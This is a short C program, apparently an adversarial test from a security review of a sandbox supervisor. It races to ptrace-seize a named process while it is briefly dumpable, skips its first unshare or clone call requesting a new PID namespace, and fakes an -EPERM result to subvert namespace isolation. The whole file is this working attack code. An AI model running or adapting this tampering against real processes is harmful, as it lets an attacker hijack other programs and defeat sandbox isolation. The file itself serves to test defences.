/* ha69-ptwin: hostile review h-attack69. An unconfined process of the
 * supervisor's uid (no Yama on the host) that PTRACE_SEIZEs a process named
 * NAME in its dumpable window (userns_steps makes the trial child, then the
 * supervisor itself, dumpable for the three id-map writes): a seize that
 * lands stays after PR_SET_DUMPABLE 0. It then skips the first unshare or
 * clone asking CLONE_NEWPID and makes it return -EPERM, one of the host's
 * errnos, and detaches. Only processes whose comm is NAME are touched.
 * Usage: ha69-ptwin NAME SECONDS   (prints what it seized and forced) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int last_pid(void)
{
	char buf[32] = {0};
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	if (read(fd, buf, sizeof(buf) - 1) <= 0)
		buf[0] = 0;
	close(fd);
	return atoi(buf);
}

static int named(int pid, const char *name)
{
	char path[64], buf[32] = {0};
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n > 0 && buf[n - 1] == '\n')
		buf[n - 1] = 0;
	return strcmp(buf, name) == 0;
}

/* Traced: skip the first unshare/clone asking CLONE_NEWPID, answer -EPERM. */
static void force(int pid)
{
	int status, forced = 0, skipped = 0;
	struct user_regs_struct r;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	while (waitpid(pid, &status, __WALL) == pid) {
		int sig = 0;

		if (WIFEXITED(status) || WIFSIGNALED(status)) {
			printf("ptwin: %d gone (forced %d)\n", pid, forced);
			return;
		}
		if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
			ptrace(PTRACE_GETREGS, pid, 0, &r);
			if (skipped) {
				r.rax = (unsigned long long)-EPERM;
				ptrace(PTRACE_SETREGS, pid, 0, &r);
				forced = 1;
				printf("ptwin: %d: forced EPERM\n", pid);
				fflush(stdout);
				ptrace(PTRACE_DETACH, pid, 0, 0);
				return;
			}
			if ((r.orig_rax == SYS_unshare || r.orig_rax == SYS_clone) &&
			    (r.rdi & CLONE_NEWPID) && r.rax == (unsigned long long)-ENOSYS) {
				r.orig_rax = (unsigned long long)-1;
				ptrace(PTRACE_SETREGS, pid, 0, &r);
				skipped = 1;
			}
		} else if (status >> 16 == PTRACE_EVENT_STOP) {
			sig = 0;
		} else {
			sig = WSTOPSIG(status);
		}
		ptrace(PTRACE_SYSCALL, pid, 0, sig);
	}
}

int main(int argc, char **argv)
{
	time_t end;
	int seen = 0;

	if (argc != 3)
		return 2;
	end = time(NULL) + atoi(argv[2]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (time(NULL) < end) {
		int l = last_pid();

		for (int pid = l - 4; pid <= l; pid++) {
			if (pid <= 1 || !named(pid, argv[1]))
				continue;
			seen++;
			if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) == 0) {
				printf("ptwin: seized %d\n", pid);
				force(pid);
			}
		}
	}
	printf("ptwin: looked %d times\n", seen);
	return 0;
}
